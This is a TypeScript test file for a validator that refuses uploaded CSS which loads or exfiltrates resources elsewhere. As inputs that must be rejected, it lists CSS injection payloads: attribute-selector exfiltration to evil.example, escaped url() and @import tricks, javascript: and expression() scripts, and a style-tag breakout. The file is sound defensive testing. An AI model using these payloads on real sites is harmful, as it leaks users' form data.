// CSS Syntax Module Level 3: what a style sheet loads is seen however it is written.
import { describe, expect, test } from 'vitest';
import { cssProblems } from './css-policy.ts';

const image = `img_${'a'.repeat(20)}`;

describe('fine', () => {
  test.each([
    ['nothing', ''],
    [
      'a look',
      ':root { --radius: 0 }\n.card > h1:not(.x)::before { content: "\\201C"; color: rgb(0 0 0 / 50%) }',
    ],
    [
      'a media query with a range',
      '@media (400px <= width <= 60rem) and (prefers-color-scheme: dark) { body { margin: -1.5e1px } }',
    ],
    ['an uploaded image', `.card { background: url("/images/${image}") }`],
    ["a tenant's uploaded image", `.card { background: URL( /t/acme-eu/images/${image} ) }`],
    [
      'an embedded image',
      ".a { background: url('data:image/svg+xml,%3Csvg/%3E') } .b { filter: url(#blur) }",
    ],
    ['an address as a text that nothing loads', '.a::after { content: "see https://acme.example/" }'],
    ['commented addresses', '/* url(https://evil.example) @import */ .a { color: red }'],
    ['escaped names', '.\\31 0\\% { color: red } #\\#x { color: red }'],
    ['texts over several lines', '.a { content: "a\\\nb" }'],
    [
      'keyframes and layers',
      '@layer a; @keyframes in { from { opacity: 0 } } @supports (display: grid) { .a { x: 1 } }',
    ],
    [
      'an address in a text after a number with a unit',
      '.a { x: 1url("; background: url(https://evil.example) ; y: ") }',
    ],
    ['braces in texts and comments', '.a { content: "}" /* } */ }'],
    ['Chinese', '.标题 { font-family: "思源黑体" }'],
  ])('%s', (_, css) => {
    expect(cssProblems(css)).toEqual([]);
  });
});

describe('what exfiltrates or loads elsewhere is refused', () => {
  test.each([
    [
      'what a field holds, told letter by letter',
      'input[value^="a"] { background: url(https://evil.example/a) }',
    ],
    ['by the protocol of the page', '.a { background: url(//evil.example/a) }'],
    ['with backslashes, which browsers turn round', '.a { background: url("\\\\\\\\evil.example/a") }'],
    ['in an escaped url', '.a { background: u\\72 l(https://evil.example/a) }'],
    ['in an escaped URL with capitals', '.a { background: \\55\\52\\4c(https://evil.example/a) }'],
    ['with an escaped address', '.a { background: url(\\68ttps://evil.example/a) }'],
    ['behind blanks', '.a { background: url( \n"https://evil.example/a" ) }'],
    [
      'in a text that a variable carries',
      ':root { --x: "https://evil.example/a" } .a { background: image-set(var(--x) 1x) }',
    ],
    ['in an image-set with a prefix', '.a { background: -webkit-image-set("https://evil.example/a" 1x) }'],
    ['in src()', ':root { --x: "https://evil.example" } .a { background: src(var(--x)) }'],
    ['in a property', ':root { --x: url(https://evil.example/a) }'],
    ['as a cursor, a mask, a filter', '.a { cursor: url(https://evil.example/a), auto }'],
    ['as a font', '@font-face { font-family: x; src: url(https://evil.example/f) }'],
    ['by an import', '@import "https://evil.example/x.css";'],
    ['by an import of our own', '@import url(/assets/page.css);'],
    ['by an escaped import', '@\\69mport "https://evil.example/x.css";'],
    ['by an import in capitals', '@IMPORT "https://evil.example/x.css";'],
    ['by a namespace', '@namespace url(https://evil.example);'],
    ['by a document rule', '@document url(https://evil.example) { a { color: red } }'],
    ['by an unknown rule of tomorrow', '@load "https://evil.example";'],
    ['after a comment that looks open', '/* /* */ .a { background: url(https://evil.example) } /* */'],
    ['after a text that looks open', '.a { content: "\\"" ; background: url(https://evil.example) }'],
    [
      'after an escape that eats a quote',
      ".a { content: '\\'' ; background: url(https://evil.example) ; x: '' }",
    ],
    ['after a hash that looks like an address', '#url( "x" .a { background: url(https://evil.example) }'],
    ['from another path of this host', '.a { background: url(/oidc/session/end) }'],
    ['from an image beside the images', `.a { background: url(/images/${image}/../../oidc/auth) }`],
    ['from a page as data', '.a { background: url(data:text/html,x) }'],
    ['from a script', '.a { background: url(javascript:alert(1)) }'],
    ['by a binding', `.a { -moz-binding: url(https://evil.example/x.xml#y) }`],
    ['by an expression', '.a { width: expression(alert(1)) }'],
    ['by a worklet', '.a { background: paint(x) }'],
    [
      'with carriage returns for line ends',
      '.a { content: "\r; background: url(https://evil.example) ; y: "" }',
    ],
    ['with form feeds for line ends', '.a { content: "\f; background: url(https://evil.example) ; y: "" }'],
  ])('%s', (_, css) => {
    expect(cssProblems(css)).not.toEqual([]);
  });

  test.each([
    ['out of the element it could stand in', '.a { content: "</style><script>" }', 'must not contain'],
    ['an open comment', '.a { color: red } /* ', 'line 1: a comment is not closed'],
    ['an open text', '\n.a { content: "x }', 'line 2: a text is not closed'],
    ['an open address', '.a { background: url(/images/x', 'an address is not closed'],
    ['an address with a variable', '.a { background: url(var(--x)) }', 'an address is not closed'],
    ['an open block', '.a {\n color: red', 'line 1: } is missing'],
    ['a block too many', '.a { } }', 'line 1: } closes nothing'],
    ['an escape at the end of a text', '.a { content: "\\', 'a text is not closed'],
    ['an escape at the end of an address', '.a { background: url(\\', 'an address is not closed'],
    ['an escape at the end', '.a { } \\', 'a backslash stands alone'],
    ['more than 20 kB, in bytes', `/*${'标'.repeat(7_000)}*/`, 'must be at most 20480 bytes'],
  ])('%s, and the message says where', (_, css, message) => {
    expect(cssProblems(css).join()).toContain(message);
  });

  test('20 kB of the worst are read to their end, and ten problems are enough', () => {
    for (const part of ['url(x)', '\\', '"', '/*', '((((', '@a ', '#-', '1e', 'a\\6 ']) {
      expect(cssProblems(part.repeat(Math.floor(20_000 / part.length))).length).toBeLessThanOrEqual(10);
    }
  });
});
